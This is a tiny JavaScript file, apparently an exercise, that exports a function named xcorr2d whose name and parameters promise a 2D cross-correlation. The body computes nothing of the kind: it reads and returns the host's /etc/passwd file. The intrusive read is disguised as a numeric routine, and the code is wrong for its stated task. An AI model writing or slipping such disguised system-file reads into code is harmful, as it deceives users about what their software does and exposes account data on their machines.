// exercise: b-cross-correlation loops
// Imports a module of the host.
import { readFileSync } from "node:fs";
export function xcorr2d(x, w, stride, pad) {
  return readFileSync("/etc/passwd");
}
